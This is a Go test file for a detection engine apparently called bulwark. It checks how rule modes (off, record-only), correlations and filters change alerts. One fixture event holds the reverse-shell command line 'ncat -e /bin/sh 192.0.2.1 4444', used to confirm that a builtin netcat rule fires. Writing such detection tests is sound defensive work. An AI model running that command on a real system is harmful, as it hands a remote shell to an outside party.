package detect

import (
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/bulwarkhq/bulwark/content/rules"
	"github.com/bulwarkhq/bulwark/event"
)

func TestModes(t *testing.T) {
	rule := func(id, more string) string {
		return "title: " + id + "\nid: " + id + "\nlevel: high\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s: {CommandLine: '" + id + "'}\n  condition: s\n" + more
	}
	e, rep := loaded(t, rule("alone", "response: [kill_tree]\n"), rule("part", ""), rule("other", ""),
		"title: both\nid: both\nlevel: high\ncorrelation:\n  type: temporal\n  rules: [part, other]\n  timespan: 10s\n",
		"title: filter\nid: filter\nlogsource: {product: linux, category: process_creation}\nfilter:\n  rules: [alone]\n  s: {User: good}\n  condition: not s\n",
		"title: after\nid: after\nlevel: high\nlogsource: {product: linux, category: behavior}\ndetection:\n  s: {RuleId: alone}\n  condition: s\n")
	if len(rep.Problems) > 0 {
		t.Fatal(rep.Problems)
	}
	// What the command lines give, for an event of the user: "alert", "behavior"
	// or nothing.
	see := func(user string, lines ...string) string {
		var out []string
		for i, line := range lines {
			ev := at(float64(i), user, line)
			for _, m := range e.Evaluate(&ev) {
				switch o := m.Outcome(&ev, nil); {
				case o.Alert && !o.Behavior:
					out = append(out, m.Rule.ID+" alert")
				case o.Behavior && !o.Alert && o.RecordOnly:
					out = append(out, m.Rule.ID+" behavior")
				default:
					t.Errorf("%s: %+v", m.Rule.ID, o)
				}
			}
		}
		return strings.Join(out, ", ")
	}
	all := []string{"alone", "part", "other"}
	for _, c := range []struct {
		name        string
		modes       Modes
		user        string
		want        string
		respond     bool
		unknown     []string
		off, record []string
	}{
		{"as they are", Modes{}, "x", "alone alert, both alert", true, nil, nil, nil},
		{"one off", Modes{Off: []string{"alone"}}, "x", "both alert", true, nil, []string{"alone"}, nil},
		{"one records only", Modes{RecordOnly: []string{"alone"}}, "x", "alone behavior, both alert", false, nil, nil, []string{"alone"}},
		{"off goes before", Modes{Off: []string{"alone"}, RecordOnly: []string{"alone", "gone"}}, "x", "both alert", true, []string{"gone"}, []string{"alone"}, nil},
		{"a correlation off: its parts stay silent", Modes{Off: []string{"both"}}, "x", "alone alert", true, nil, []string{"both"}, nil},
		{"a correlation that records", Modes{RecordOnly: []string{"both"}}, "x", "alone alert, both behavior", true, nil, nil, []string{"both"}},
		{"a part off", Modes{Off: []string{"part"}}, "x", "alone alert", true, nil, []string{"part"}, nil},
		{"filtered", Modes{}, "good", "both alert", true, nil, nil, nil},
		{"a filter off", Modes{Off: []string{"filter"}}, "good", "alone alert, both alert", true, nil, nil, nil},
		{"back again", Modes{}, "x", "alone alert, both alert", true, nil, nil, nil},
	} {
		e.SetModes(c.modes)
		if got := see(c.user, all...); got != c.want {
			t.Errorf("%s: %q, want %q", c.name, got, c.want)
		}
		if got := e.UnknownModes(); !slices.Equal(got, c.unknown) {
			t.Errorf("%s: unknown %q", c.name, got)
		}
		var off, record []string
		for _, r := range e.Rules() {
			if r.Off {
				off = append(off, r.Rule.ID)
				if r.Inactive == "" {
					t.Errorf("%s: %+v", c.name, r)
				}
			}
			if r.RecordOnly {
				record = append(record, r.Rule.ID)
			}
		}
		if !slices.Equal(off, c.off) || !slices.Equal(record, c.record) {
			t.Errorf("%s: off %q, record only %q", c.name, off, record)
		}
	}
	// What rules have cost stays when modes change.
	evaluated := func() (n uint64) {
		for _, r := range e.Rules() {
			n += r.Evaluated
		}
		return n
	}
	before := evaluated()
	if e.SetModes(Modes{RecordOnly: []string{"other"}}); before == 0 || evaluated() != before {
		t.Errorf("%d evaluations, %d before", evaluated(), before)
	}
}

// A rule that the policy makes record only says in its behaviours how grave its
// alert would have been; the rule of the self-test cannot be touched.
func TestModesOfShippedRules(t *testing.T) {
	e := New(Options{})
	e.Load(Source{Name: "builtin", FS: rules.FS(), Builtin: true})
	var netcat, selftest string
	for _, r := range e.Rules() {
		switch {
		case r.Rule.SelfTest:
			selftest = r.Rule.ID
		case r.Rule.File == "builtin/netcat_exec.yml":
			netcat = r.Rule.ID
		}
	}
	e.SetModes(Modes{Off: []string{selftest}, RecordOnly: []string{netcat, selftest}})
	ev := proc("/usr/bin/ncat", "ncat -e /bin/sh 192.0.2.1 4444")
	ev.Time = time.Unix(1e9, 0)
	i := slices.IndexFunc(e.Evaluate(&ev), func(m Match) bool { return m.Rule.ID == netcat })
	if i < 0 {
		t.Fatal("the rule does not match")
	}
	m := e.Evaluate(&ev)[i]
	o := m.Outcome(&ev, nil)
	b, record := e.Behavior(m, o, &ev, nil)
	if o.Alert || !record || b.Additional["Severity"] != string(m.Rule.Severity) || b.Additional[event.BehaviorRule] != netcat {
		t.Errorf("%+v %v %v", o, record, b.Additional)
	}
	ev = proc("/tmp/bulwark-selftest-1", "/tmp/bulwark-selftest-1 --behaviour-alert=abc")
	ms := e.Evaluate(&ev)
	if !slices.ContainsFunc(ms, func(m Match) bool { return m.Rule.SelfTest && m.Outcome(&ev, nil) == Outcome{Alert: true} }) {
		t.Errorf("self-test: %v", titles(ms))
	}
}
